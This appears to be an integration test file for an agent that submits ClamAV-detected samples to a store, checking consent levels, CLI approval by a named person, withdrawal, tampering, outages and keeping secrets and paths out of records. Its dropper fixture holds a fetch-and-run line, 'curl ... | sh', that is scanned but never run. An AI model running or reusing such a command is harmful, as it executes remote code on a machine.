// Sample submission end to end with a real ClamAV (clamscan with a
// signature database made here, writing its log) and a real sample store
// (Azurite): what each level submits, holds or keeps, a person's consent
// through the CLI, files that change or go, and a store that is down.
import { deepEqual, equal, match, ok } from "node:assert/strict";
import type { Agent } from "../../agent/agent.ts";
import { listEvents, type StoredEvent } from "../../store/event_queries.ts";
import { getSample, listSamples } from "../../store/sample_queries.ts";
import { runCli, startTestAgent, tempDir } from "../_helpers.ts";
import { type Azurite, sha256Hex, startAzurite } from "../../testing/azurite.ts";
import { makeCertificates } from "../../testing/tls_peer.ts";
import { clamscan, writeHashDatabase } from "../../testing/clamav.ts";
import { requires } from "../../testing/requires.ts";

const NEEDS = requires("clamscan", "azurite-blob");

/** A script with nothing personal in it: program code, admitted at safe. */
const DROPPER = "#!/bin/sh\ncurl -s http://198.51.100.7/stage2 | sh\n";
/** Text naming a person: held at safe. */
const LETTER = "Dear Jane,\nthe invoice is attached. Write back to jane.doe@example.org\n";

interface Setup {
  agent: Agent;
  dataDir: string;
  managed: string;
  files: { dropper: string; letter: string; second: string };
  database: string;
  log: string;
  settings: Record<string, Record<string, unknown>>;
  /** Changes the managed file's settings and has the agent read them. */
  rewrite(change: (settings: Record<string, Record<string, unknown>>) => void): Promise<void>;
}

/** Files ClamAV will flag, a database that flags them, and an agent whose store is `store`. */
async function setUp(
  dir: string,
  level: "none" | "safe" | "all",
  samples: Record<string, unknown>,
): Promise<Setup> {
  const folder = `${dir}/files`;
  await Deno.mkdir(folder);
  const files = {
    dropper: `${folder}/dropper.sh`,
    letter: `${folder}/letter.txt`,
    second: `${folder}/second letter.txt`,
  };
  await Deno.writeTextFile(files.dropper, DROPPER);
  await Deno.writeTextFile(files.letter, LETTER);
  await Deno.writeTextFile(files.second, `${LETTER}PS: or call jdoe.\n`);
  const databaseDirectory = `${dir}/clamav-db`;
  const database = await writeHashDatabase(databaseDirectory, Object.values(files));
  const log = `${dir}/clamscan.log`;
  const settings = {
    cloudService: {
      enabled: true,
      diagnosticLevel: "optional",
      automaticSampleSubmissionConsent: level,
    },
    // No clamd here: clamscan confirms each detection with the test's database.
    securityIntelligence: { databaseDirectory },
    samples: { detectionLog: log, clamdSocket: null, ...samples },
  };
  const managed = `${dir}/managed.json`;
  await Deno.writeTextFile(managed, JSON.stringify(settings));
  const dataDir = `${dir}/data`;
  const agent = await startTestAgent({ dataDir, managedFile: managed });
  return {
    agent,
    dataDir,
    managed,
    files,
    database,
    log,
    settings,
    async rewrite(change) {
      change(settings);
      await Deno.writeTextFile(managed, JSON.stringify(settings));
      await agent.reloadPolicy();
    },
  };
}

/** ClamAV scans `files`; the agent reads its log, then submits what is due. */
async function detectAndSubmit(setup: Setup, files: readonly string[]): Promise<void> {
  const printed = await clamscan(setup.database, setup.log, files);
  equal(printed.split("\n").filter((line) => line.endsWith(" FOUND")).length, files.length);
  await setup.agent.collectNow("samples");
  await setup.agent.collectNow("sample_submission");
}

async function records(agent: Agent, type: StoredEvent["type"]): Promise<StoredEvent[]> {
  return (await listEvents(agent.store.db, { allowed: ["required", "optional"], type }))
    .reverse();
}

/** The sample store's blobs: name to content. */
async function blobs(
  azurite: Azurite,
): Promise<Map<string, Uint8Array<ArrayBuffer>>> {
  const found = new Map<string, Uint8Array<ArrayBuffer>>();
  for await (const blob of azurite.container.listBlobsFlat()) {
    const bytes = await azurite.container.getBlockBlobClient(blob.name).downloadToBuffer();
    found.set(blob.name, new Uint8Array(bytes));
  }
  return found;
}

async function storeSettings(dir: string, azurite: Azurite) {
  const sasFile = `${dir}/samples.sas`;
  await Deno.writeTextFile(sasFile, `${azurite.containerSas()}\n`, { mode: 0o600 });
  return {
    submissionUri: azurite.container.url,
    sasTokenFile: sasFile,
  };
}

/** Every stored record, as text: to look for what must never be in one. */
async function everyRecord(agent: Agent): Promise<string> {
  return JSON.stringify(
    await listEvents(agent.store.db, { allowed: ["required", "optional"], limit: 1000 }),
  );
}

/** A test with Azurite as the sample store and an agent at sample level `level`. */
function azuriteTest(
  name: string,
  level: "none" | "safe" | "all",
  body: (context: { setup: Setup; azurite: Azurite; dir: string }) => Promise<void>,
  samples: Record<string, unknown> = {},
): void {
  Deno.test({
    name,
    ...NEEDS,
    fn: async () => {
      await using dir = await tempDir();
      await using azurite = await startAzurite(dir.path, "samples");
      const setup = await setUp(dir.path, level, {
        ...await storeSettings(dir.path, azurite),
        ...samples,
      });
      try {
        await body({ setup, azurite, dir: dir.path });
      } finally {
        await setup.agent.stop();
      }
    },
  });
}

azuriteTest(
  "at all, every detected sample goes to the sample store, whose blob is the file's SHA-256",
  "all",
  async ({ setup, azurite }) => {
    await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
    const detections = await records(setup.agent, "sample_detection");
    deepEqual(detections.map((d) => d.parts.required?.decision), ["submit", "submit"]);
    deepEqual(
      detections.map((d) => d.parts.optional?.path),
      [setup.files.dropper, setup.files.letter],
    );
    match(String(detections[0]!.parts.required?.signature), /^Vitrine\.Test\.Sample-0/);
    equal(detections[0]!.parts.required?.file_type, "script with interpreter line");
    match(String(detections[1]!.parts.required?.reason), /e-mail address \(1\)/);

    const stored = await blobs(azurite);
    equal(stored.size, 2);
    for (const file of [setup.files.dropper, setup.files.letter]) {
      const own = await sha256Hex(await Deno.readFile(file));
      ok(stored.has(own), `a blob named after ${file}'s SHA-256`);
      equal(await sha256Hex(stored.get(own)!), own, "the blob holds the file");
    }
    const completed = await records(setup.agent, "sample_submission_completed");
    equal(completed.length, 2);
    equal(completed[0]!.parts.required?.destination_host, `127.0.0.1:${azurite.port}`);
    match(String(completed[0]!.parts.required?.blob_uri), /sig=REDACTED/);
    equal((await records(setup.agent, "sample_submission_started")).length, 2);
    const signature = new URLSearchParams(azurite.containerSas()).get("sig")!;
    ok(!(await everyRecord(setup.agent)).includes(signature), "no record holds the signature");

    // ClamAV flags the same file again (it does at every scan): nothing goes twice.
    await detectAndSubmit(setup, [setup.files.dropper]);
    const again = (await records(setup.agent, "sample_detection")).at(-1)!;
    equal(again.parts.required?.decision, "keep");
    match(String(again.parts.required?.reason), /detected before .* now submitted/);
    equal((await blobs(azurite)).size, 2);

    const sent = await runCli(["sent", "--data-dir", setup.dataDir]);
    equal(sent.code, 0, sent.stderr);
    const report = JSON.parse(sent.stdout);
    deepEqual(report.submissions.map((s: { state: string }) => s.state), [
      "submitted",
      "submitted",
    ]);
  },
);

azuriteTest(
  "at safe, program code is submitted and a letter is held until approved in the CLI; a declined one never leaves",
  "safe",
  async ({ setup, azurite }) => {
    await detectAndSubmit(setup, [
      setup.files.dropper,
      setup.files.letter,
      setup.files.second,
    ]);
    const decisions = (await records(setup.agent, "sample_detection"))
      .map((d) => [d.parts.required?.decision, d.parts.required?.reason]);
    equal(decisions[0]![0], "submit");
    equal(decisions[1]![0], "hold");
    match(String(decisions[1]![1]), /e-mail address \(1\).*held until a person consents/);
    ok(!String(decisions[1]![1]).includes("jane.doe"), "the reason never quotes the data");
    equal((await blobs(azurite)).size, 1, "only the script went");

    const flags = ["--data-dir", setup.dataDir];
    const pending = await runCli(["sample", "pending", ...flags]);
    equal(pending.code, 0, pending.stderr);
    const held = JSON.parse(pending.stdout).samples as { id: string; path?: string }[];
    deepEqual(held.map((s) => s.path).sort(), [setup.files.second, setup.files.letter].sort());
    const letter = held.find((s) => s.path === setup.files.letter)!;
    const second = held.find((s) => s.path === setup.files.second)!;

    const nameless = await runCli(["sample", "approve", letter.id, ...flags]);
    equal(nameless.code, 2);
    match(nameless.stderr, /--actor NAME is required/);
    const approved = await runCli([
      "sample",
      "approve",
      letter.id,
      "--actor",
      "Ada Admin",
      ...flags,
    ]);
    equal(approved.code, 0, approved.stderr);
    match(approved.stdout, /approved: the agent submits it; decided by Ada Admin/);
    const declined = await runCli(["sample", "decline", second.id, "--actor", "Grace", ...flags]);
    equal(declined.code, 0, declined.stderr);
    const again = await runCli(["sample", "approve", second.id, "--actor", "Eve", ...flags]);
    equal(again.code, 1);
    match(again.stderr, /is declined, not held/);

    await setup.agent.collectNow("sample_submission");
    const stored = await blobs(azurite);
    equal(stored.size, 2);
    ok(stored.has(await sha256Hex(await Deno.readFile(setup.files.letter))));
    ok(!stored.has(await sha256Hex(await Deno.readFile(setup.files.second))));
    equal((await getSample(setup.agent.store.db, letter.id))?.state, "submitted");
    const kept = await getSample(setup.agent.store.db, second.id);
    equal(kept?.state, "declined");
    equal(kept?.decided_by, "Grace");
    equal(kept?.path, null, "a sample that will never leave keeps no path");
    deepEqual(
      (await records(setup.agent, "sample_decision")).map((d) => [
        d.parts.required?.decision,
        d.parts.required?.actor,
      ]),
      [["approve", "Ada Admin"], ["decline", "Grace"]],
    );
  },
);

azuriteTest(
  "at none, detections are recorded and nothing is submitted or held",
  "none",
  async ({ setup, azurite }) => {
    await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
    const detections = await records(setup.agent, "sample_detection");
    deepEqual(detections.map((d) => d.parts.required?.decision), ["keep", "keep"]);
    match(String(detections[0]!.parts.required?.reason), /Sample submission is off \(none\)/);
    ok(detections[0]!.parts.required?.sha256, "the detection is recorded whole all the same");
    equal((await blobs(azurite)).size, 0);
    deepEqual(
      (await listSamples(setup.agent.store.db, { limit: 10 })).map((s) => s.state),
      ["kept", "kept"],
    );
    equal((await records(setup.agent, "sample_submission_started")).length, 0);
  },
);

azuriteTest(
  "a sample changed or gone before it could be sent is dropped, and a level lowered to none withdraws what waits",
  "all",
  async ({ setup, azurite }) => {
    await setup.rewrite((s) => s.cloudService!.enabled = false);
    await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter, setup.files.second]);
    ok(
      setup.agent.status().problems.some((p) =>
        /3 sample\(s\) wait .* the cloud service is off/.test(p)
      ),
      setup.agent.status().problems.join("\n"),
    );
    await Deno.writeTextFile(setup.files.dropper, "#!/bin/sh\necho replaced\n");
    await Deno.remove(setup.files.letter);
    // The cloud service back on, but sample submission off: whatever waits is
    // withdrawn, changed or not (one write, so that no round sends in between).
    await setup.rewrite((s) => {
      s.cloudService!.enabled = true;
      s.cloudService!.automaticSampleSubmissionConsent = "none";
    });
    await setup.agent.collectNow("sample_submission");
    await setup.rewrite((s) => s.cloudService!.automaticSampleSubmissionConsent = "all");
    await setup.agent.collectNow("sample_submission");
    equal((await blobs(azurite)).size, 0, "nothing was submitted");
    const decisions = (await records(setup.agent, "sample_decision"))
      .map((d) => `${d.parts.required?.decision}: ${d.parts.required?.reason}`);
    equal(decisions.length, 3, decisions.join("\n"));
    ok(
      decisions.every((d) => /^withdraw: Sample submission is now off/.test(d)),
      decisions.join("\n"),
    );

    // Again with the level kept: what leaves is vitrine's copy of the bytes
    // ClamAV confirmed, whatever becomes of the file; a copy that changed is dropped.
    await Deno.writeTextFile(setup.files.dropper, DROPPER);
    await Deno.writeTextFile(setup.files.letter, LETTER);
    await setup.rewrite((s) => s.cloudService!.enabled = false);
    await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
    await Deno.writeTextFile(setup.files.dropper, "#!/bin/sh\necho replaced again\n");
    await Deno.remove(setup.files.letter);
    const waiting = await listSamples(setup.agent.store.db, { states: ["queued"], limit: 5 });
    const letterCopy = waiting.find((w) => w.path === setup.files.letter)!.copy!;
    await Deno.writeTextFile(letterCopy, "tampered\n");
    await setup.rewrite((s) => s.cloudService!.enabled = true);
    await setup.agent.collectNow("sample_submission");
    const stored = await blobs(azurite);
    deepEqual(
      [...stored.keys()],
      [await sha256Hex(new TextEncoder().encode(DROPPER))],
      "the script as ClamAV confirmed it went, from vitrine's copy; not what replaced it",
    );
    const dropped = (await records(setup.agent, "sample_decision"))
      .filter((d) => d.parts.required?.decision === "drop")
      .map((d) => String(d.parts.required?.reason));
    equal(dropped.length, 1, dropped.join("\n"));
    match(dropped[0]!, /vitrine's copy of it changed since it was detected/);
  },
);

Deno.test({
  name:
    "a sample store that is down: each attempt is recorded started then failed with its next time, and the signature stays out",
  ...NEEDS,
  fn: async () => {
    await using dir = await tempDir();
    await using azurite = await startAzurite(dir.path, "samples");
    const settings = await storeSettings(dir.path, azurite);
    // A port where nothing listens.
    const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const closed = (listener.addr as Deno.NetAddr).port;
    listener.close();
    const setup = await setUp(dir.path, "all", {
      ...settings,
      submissionUri: `http://127.0.0.1:${closed}/devstoreaccount1/samples`,
    });
    try {
      await detectAndSubmit(setup, [setup.files.dropper]);
      const [failed] = await records(setup.agent, "sample_submission_failed");
      ok(failed, "the failure is recorded");
      equal(failed.parts.required?.status, null);
      match(String(failed.parts.required?.error), /could not be reached/);
      ok(Number(failed.parts.required?.retry_at) > Date.now(), "a later attempt is due");
      equal((await records(setup.agent, "sample_submission_started")).length, 1);
      const signature = new URLSearchParams(azurite.containerSas()).get("sig")!;
      ok(!(await everyRecord(setup.agent)).includes(signature), "no record holds the signature");
      const [sample] = await listSamples(setup.agent.store.db, { limit: 1 });
      equal(sample?.state, "queued");
      equal(sample?.attempts, 1);
      // The private copy: readable by its owner only, in a folder only its owner enters.
      ok(sample?.copy, "a copy was kept");
      equal((await Deno.stat(sample!.copy!)).mode! & 0o777, 0o600);
      equal((await Deno.stat(`${setup.dataDir}/samples`)).mode! & 0o777, 0o700);
    } finally {
      await setup.agent.stop();
    }
  },
});

azuriteTest(
  "a sample ClamAV removed after detection is still submitted from vitrine's copy, and the copy goes",
  "all",
  async ({ setup, azurite }) => {
    // Held back (the cloud service off) until the file is gone.
    await setup.rewrite((s) => s.cloudService!.enabled = false);
    await clamscan(setup.database, setup.log, [setup.files.dropper]);
    await setup.agent.collectNow("samples");
    const own = await sha256Hex(await Deno.readFile(setup.files.dropper));
    await Deno.remove(setup.files.dropper);
    await setup.rewrite((s) => s.cloudService!.enabled = true);
    await setup.agent.collectNow("sample_submission");
    ok((await blobs(azurite)).has(own), "submitted from the copy");
    const [sample] = await listSamples(setup.agent.store.db, { limit: 1 });
    equal(sample?.state, "submitted");
    deepEqual([...Deno.readDirSync(`${setup.dataDir}/samples`)], [], "no copy is left");
  },
);

Deno.test({
  name:
    "to an https sample store: PUT <uri>/<sha256> with the bearer token, over TLS trusted through caFile",
  ...requires("clamscan", "openssl"),
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    await using dir = await tempDir();
    await makeCertificates(dir.path);
    const received: { method: string; path: string; auth: string | null; body: Uint8Array }[] = [];
    const server = Deno.serve({
      hostname: "127.0.0.1",
      port: 0,
      cert: await Deno.readTextFile(`${dir.path}/server.pem`),
      key: await Deno.readTextFile(`${dir.path}/server.key`),
      onListen: () => {},
    }, async (request) => {
      received.push({
        method: request.method,
        path: new URL(request.url).pathname,
        auth: request.headers.get("authorization"),
        body: new Uint8Array(await request.arrayBuffer()),
      });
      return new Response(null, { status: 201, headers: { "x-request-id": "store-42" } });
    });
    const token = `${dir.path}/store.token`;
    await Deno.writeTextFile(token, "s3cr3t-store-token\n", { mode: 0o600 });
    const setup = await setUp(dir.path, "all", {
      submissionUri: `https://127.0.0.1:${server.addr.port}/upload/`,
    });
    await setup.rewrite((settings) => {
      settings.cloudService = {
        ...settings.cloudService,
        tokenFile: token,
        caFile: `${dir.path}/ca.pem`,
      };
    });
    try {
      await detectAndSubmit(setup, [setup.files.dropper]);
      const own = await sha256Hex(await Deno.readFile(setup.files.dropper));
      equal(received.length, 1, setup.agent.status().problems.join("\n"));
      deepEqual(
        [received[0]!.method, received[0]!.path, received[0]!.auth],
        ["PUT", `/upload/${own}`, "Bearer s3cr3t-store-token"],
      );
      equal(await sha256Hex(new Uint8Array(received[0]!.body)), own);
      const [completed] = await records(setup.agent, "sample_submission_completed");
      equal(completed?.parts.required?.request_id, "store-42");
      ok(!(await everyRecord(setup.agent)).includes("s3cr3t"), "the token is in no record");
    } finally {
      await setup.agent.stop();
      await server.shutdown();
    }
  },
});

Deno.test({
  name:
    "at the required level no record and no listing names a flagged file's path, whatever became of it",
  ...NEEDS,
  fn: async () => {
    await using dir = await tempDir();
    await using azurite = await startAzurite(dir.path, "samples");
    const setup = await setUp(dir.path, "safe", await storeSettings(dir.path, azurite));
    await setup.rewrite((settings) => settings.cloudService!.diagnosticLevel = "required");
    try {
      const fifo = `${dir.path}/files/pipe`;
      await clamscan(setup.database, setup.log, [setup.files.dropper, setup.files.letter]);
      // Lines as clamd would write them for a FIFO, a vanished file and a relative path.
      await Deno.writeTextFile(
        setup.log,
        [
          `${fifo}: Vitrine.Test.Fifo FOUND`,
          `${dir.path}/files/vanished.bin: Vitrine.Test.Gone FOUND`,
          "files/relative.bin: Vitrine.Test.Relative FOUND",
          "",
        ].join("\n"),
        { append: true },
      );
      await new Deno.Command("mkfifo", { args: [fifo] }).output();
      await setup.agent.collectNow("samples");
      await setup.agent.collectNow("sample_submission");
      const detections = await records(setup.agent, "sample_detection");
      deepEqual(
        detections.map((d) => d.parts.required?.decision),
        ["submit", "hold", "unconfirmed", "unconfirmed", "unconfirmed"],
      );
      for (const unconfirmed of detections.slice(2)) {
        deepEqual(
          [
            unconfirmed.parts.required?.signature,
            unconfirmed.parts.required?.sha256,
            unconfirmed.parts.required?.size,
          ],
          [null, null, null],
          "nothing the log claimed is kept of a detection ClamAV did not confirm",
        );
      }
      const types = [
        "sample_detection",
        "sample_decision",
        "sample_submission_started",
        "sample_submission_completed",
        "sample_submission_failed",
      ] as const;
      const stored = JSON.stringify(
        await Promise.all(types.map((type) => records(setup.agent, type))),
      );
      ok(stored.includes("Vitrine.Test.Sample-0"), "the records are there");
      ok(!stored.includes("Vitrine.Test.Relative"), "an unconfirmed claim's signature is not kept");
      ok(!stored.includes(dir.path), `no sample record names a path: ${stored}`);
      ok(!stored.includes("relative.bin"), "nor the relative one ClamAV logged");
      const listed = await runCli(["sample", "list", "--data-dir", setup.dataDir]);
      equal(listed.code, 0, listed.stderr);
      // (The report names the detection log the policy sets: configuration, not a sample's path.)
      ok(!JSON.stringify(JSON.parse(listed.stdout).samples).includes(dir.path), listed.stdout);
      const held = JSON.parse(listed.stdout).samples.find((s: { state: string }) =>
        s.state === "held"
      );
      equal(held.path, undefined, "the path is not even named as a key");
    } finally {
      await setup.agent.stop();
    }
  },
});

azuriteTest(
  "while the managed file is invalid nothing is submitted or withdrawn, and no detection is lost",
  "all",
  async ({ setup, azurite }) => {
    // One waits already (the cloud off), then the file breaks mid-rewrite.
    await setup.rewrite((settings) => settings.cloudService!.enabled = false);
    await detectAndSubmit(setup, [setup.files.dropper]);
    await Deno.writeTextFile(setup.managed, '{"cloudService": {"enabled": tr');
    await setup.agent.reloadPolicy();
    // Failing closed, the agent follows the default log; this one waits.
    await detectAndSubmit(setup, [setup.files.letter]);
    deepEqual(
      (await listSamples(setup.agent.store.db, { limit: 5 })).map((s) => s.state),
      ["queued"],
      "nothing withdrawn on a bad read",
    );
    ok(setup.agent.status().problems.some((p) => /Samples wait: the managed policy/.test(p)));
    equal((await blobs(azurite)).size, 0);

    await setup.rewrite((settings) => settings.cloudService!.enabled = true);
    await setup.agent.collectNow("samples");
    await setup.agent.collectNow("sample_submission");
    const detections = await records(setup.agent, "sample_detection");
    equal(detections.length, 2, "the detection logged meanwhile is read where it was left");
    equal((await blobs(azurite)).size, 2, "both go once a valid policy allows them");
  },
);
